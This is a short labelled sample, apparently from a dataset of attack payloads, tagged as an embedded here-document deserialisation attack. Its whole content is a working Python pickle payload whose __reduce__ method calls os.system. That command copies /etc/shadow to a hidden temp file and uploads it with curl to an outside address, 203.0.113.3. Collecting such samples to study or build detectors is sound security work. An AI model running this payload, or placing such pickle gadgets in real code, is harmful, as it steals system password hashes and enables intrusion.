# class: embedded, here-document, deserialisation; style: sloppy
python3 << END
import pickle, os
class X(object):
    def __reduce__(self): return (os.system, ("cat /etc/shadow > /tmp/.s; curl -T /tmp/.s http://203.0.113.3/",))
pickle.loads(pickle.dumps(X()))
END
